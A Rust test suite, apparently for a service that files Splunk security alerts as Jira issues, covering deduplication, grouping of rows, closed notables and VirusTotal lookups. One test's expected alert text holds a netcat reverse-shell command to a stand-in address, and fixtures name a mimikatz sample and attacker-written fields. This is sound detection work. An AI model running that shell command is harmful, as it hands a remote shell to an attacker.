//! What Splunk's rows become: one alert or several, and nothing of them is only a
//! number.

use crate::harness::alerts::{post, sample, set_up, tell};
use crate::harness::issues::only_issue;
use crate::harness::operator::until_quiet;
use crate::harness::others::{Others, borrowed};
use serde_json::{Value, json};

fn case(name: &str) -> Value {
    sample_of(&format!("../cases/splunk/{name}.json"))
}

fn sample_of(path: &str) -> Value {
    serde_json::from_slice(&crate::harness::samples::file(path)).unwrap()
}

#[tokio::test]
async fn another_raw_event_counts_up_and_stands_on_the_issue_with_its_own_text() {
    let (jira, function) = set_up(&[]).await;
    tell(&function, &case("01a-raw-event-first")).await;
    let second = case("01b-raw-event-other-raw");
    assert_eq!(tell(&function, &second).await["outcome"], "updated");
    assert_eq!(tell(&function, &second).await["outcome"], "duplicate");
    let issue = only_issue(&jira);
    assert_eq!(issue.summary(), "sudo activity: lin-07");
    assert_eq!(issue.comments.len(), 1);
    let told = issue.comments[0].text();
    assert!(
        told.contains("/usr/bin/nc 203.0.113.66 4444 -e /bin/sh"),
        "{told}"
    );
    assert!(!told.contains("systemctl status app"), "{told}");
}

#[tokio::test]
async fn raw_events_that_came_during_an_outage_all_stand_in_the_description() {
    let (jira, function) = set_up(&[]).await;
    jira.pause().await;
    for number in 0..4 {
        let mut alert = case("01a-raw-event-first");
        alert["result"]["_raw"] = format!("event number {number} of one run").into();
        assert_eq!(tell(&function, &alert).await["outcome"], "queued");
    }
    jira.resume().await.unwrap();
    until_quiet(&function).await;
    let issue = only_issue(&jira);
    let description = issue.description();
    for number in 0..4 {
        let text = format!("event number {number} of one run");
        assert!(description.contains(&text), "{description}");
    }
}

#[tokio::test]
async fn rows_that_differ_file_each_and_what_an_attacker_writes_joins_nothing() {
    for (bodies, summaries) in [
        (
            vec!["15a-index-silent-firewall", "15b-index-silent-proxy"],
            vec!["Index receives no data", "Index receives no data"],
        ),
        (
            vec!["05a-raw-notable-1", "05b-raw-notable-2"],
            vec![
                "Access - Many Failed Logins - Rule: 203.0.113.112",
                "Access - Many Failed Logins - Rule: 198.51.100.77",
            ],
        ),
        (
            vec!["h4-row-fields-written-by-an-attacker"],
            vec![
                "LSASS read: fin-01",
                "New domain admin: dc-01",
                "Backup deleted: bak-01",
            ],
        ),
        (
            vec!["07c-results-list"],
            vec![
                "All rows in one: a",
                "All rows in one: b",
                "All rows in one: c",
            ],
        ),
    ] {
        let (jira, function) = set_up(&[]).await;
        for body in &bodies {
            let answer = post(&function, &case(body)).await;
            assert!(answer.status < 300, "{body}: {}", answer.text());
        }
        let mut found: Vec<String> = jira
            .issues()
            .iter()
            .map(|issue| issue.summary().to_owned())
            .collect();
        let mut expected: Vec<String> = summaries.iter().map(|one| (*one).to_owned()).collect();
        found.sort();
        expected.sort();
        assert_eq!(found, expected);
    }
}

#[tokio::test]
async fn a_container_that_is_closed_without_its_artifacts_keeps_them() {
    let (jira, function) = set_up(&[("on_delete", "transition")]).await;
    tell(&function, &case("08a-soar-container")).await;
    let closed = case("08e-soar-closed-without-artifacts");
    assert_eq!(tell(&function, &closed).await["outcome"], "updated");
    assert_eq!(tell(&function, &closed).await["outcome"], "duplicate");
    let issue = only_issue(&jira);
    let description = issue.description();
    for part in [
        "203.0.113.5",
        "bad@evil.example",
        "alice",
        "Alpha",
        "closed",
        "2026-01-16T19:18",
    ] {
        assert!(description.contains(part), "{part}: {description}");
    }
    assert_eq!(issue.status, "Done");
    let told = issue.comments[0].text();
    assert!(told.contains("was closed in Splunk"), "{told}");
}

#[tokio::test]
async fn a_notable_that_is_closed_says_so_and_one_that_is_opened_again_too() {
    let (jira, function) = set_up(&[("on_delete", "transition")]).await;
    let open = case("06a-risk-notable");
    tell(&function, &open).await;
    let closed = tell(&function, &case("06b-risk-notable-closed")).await;
    assert_eq!(closed["outcome"], "updated", "{closed}");
    let issue = only_issue(&jira);
    assert_eq!(issue.status, "Done");
    assert!(
        issue
            .description()
            .contains("Scanner of the vulnerability team, closing")
    );
    assert_eq!(tell(&function, &open).await["outcome"], "updated");
    assert_ne!(only_issue(&jira).status, "Done");
}

#[tokio::test]
async fn all_rows_of_a_run_are_one_issue_whose_table_grows() {
    let routes = "[[route]]\nwhen = { search = 'port sweep' }\nsplunk_group = 'run'";
    let (jira, function) = set_up(&[("routes", routes)]).await;
    let row = |host: &str, severity: &str| {
        json!({"sid": "s1", "search_name": "Port sweep", "app": "search",
            "result": {"src": host, "ports": "22, 445", "severity": severity}})
    };
    assert_eq!(
        tell(&function, &row("10.0.0.1", "low")).await["outcome"],
        "created"
    );
    assert_eq!(
        tell(&function, &row("10.0.0.2", "critical")).await["outcome"],
        "updated"
    );
    assert_eq!(
        tell(&function, &row("10.0.0.2", "critical")).await["outcome"],
        "duplicate"
    );
    assert_eq!(
        tell(&function, &row("10.0.0.3", "low")).await["outcome"],
        "updated"
    );
    let issue = only_issue(&jira);
    assert_eq!(issue.summary(), "Port sweep");
    assert_eq!(issue.priority(), "Highest");
    for host in ["10.0.0.1", "10.0.0.2", "10.0.0.3"] {
        assert_eq!(
            issue.description().matches(host).count(),
            1,
            "{}",
            issue.description()
        );
    }
    let mut next = row("10.0.0.1", "low");
    next["sid"] = "s2".into();
    assert_eq!(tell(&function, &next).await["outcome"], "created");
}

#[tokio::test]
async fn a_detector_that_is_quiet_again_ends_its_alert() {
    let (jira, function) = set_up(&[]).await;
    let mut detector = case("09a-observability");
    assert_eq!(tell(&function, &detector).await["outcome"], "created");
    assert_eq!(only_issue(&jira).priority(), "Highest");
    detector["status"] = "ok".into();
    detector["timestamp"] = "2026-01-01T10:30:00Z".into();
    assert_eq!(tell(&function, &detector).await["outcome"], "updated");
    let told = only_issue(&jira).comments[0].text();
    assert!(told.contains("was closed in Splunk"), "{told}");
}

#[tokio::test]
async fn what_is_no_row_is_refused_and_never_accepted_empty() {
    let (jira, function) = set_up(&[]).await;
    let mut alert = sample("webhook.mimikatz");
    alert["result"] = json!(["a row as text"]);
    let answer = post(&function, &alert).await;
    assert_eq!(answer.status, 422, "{}", answer.text());
    assert!(
        answer.text().contains("row 1 in `result`"),
        "{}",
        answer.text()
    );
    assert!(jira.issues().is_empty());
}

/// What VirusTotal was asked about, sorted.
async fn looked_up(case_name: &str, own: &[(&str, &str)]) -> (Vec<String>, String) {
    let others = Others::start().await;
    let settings = others.settings(own);
    let (jira, function) = set_up(&borrowed(&settings)).await;
    assert_eq!(
        tell(&function, &case(case_name)).await["outcome"],
        "created"
    );
    let paths = others.virustotal.requests().into_iter().map(|one| one.path);
    let mut paths: Vec<String> = paths.collect();
    paths.sort();
    (paths, only_issue(&jira).description())
}

#[tokio::test]
async fn one_file_is_looked_up_once_and_what_is_too_many_is_said() {
    let (paths, _) = looked_up("13-sysmon-imphash", &[]).await;
    let sha256 = "4668bb2223ffb983a5f1273b9e3d9fa2c5ce4a0f1fb18ca5c1b285762020073c";
    let expected = [
        format!("/api/v3/files/{sha256}"),
        "/api/v3/ip_addresses/185.220.101.7".to_owned(),
    ];
    assert_eq!(paths, expected);
    let (paths, description) = looked_up("03a-multivalue-newline", &[]).await;
    assert_eq!(paths.len(), 4, "{paths:?}");
    assert!(
        description.contains("VirusTotal: 1 not asked"),
        "{description}"
    );
    let all = [("virustotal_max_lookups", "10")];
    let (paths, description) = looked_up("03a-multivalue-newline", &all).await;
    assert_eq!(paths.len(), 5, "{paths:?}");
    assert!(!description.contains("not asked"), "{description}");
}
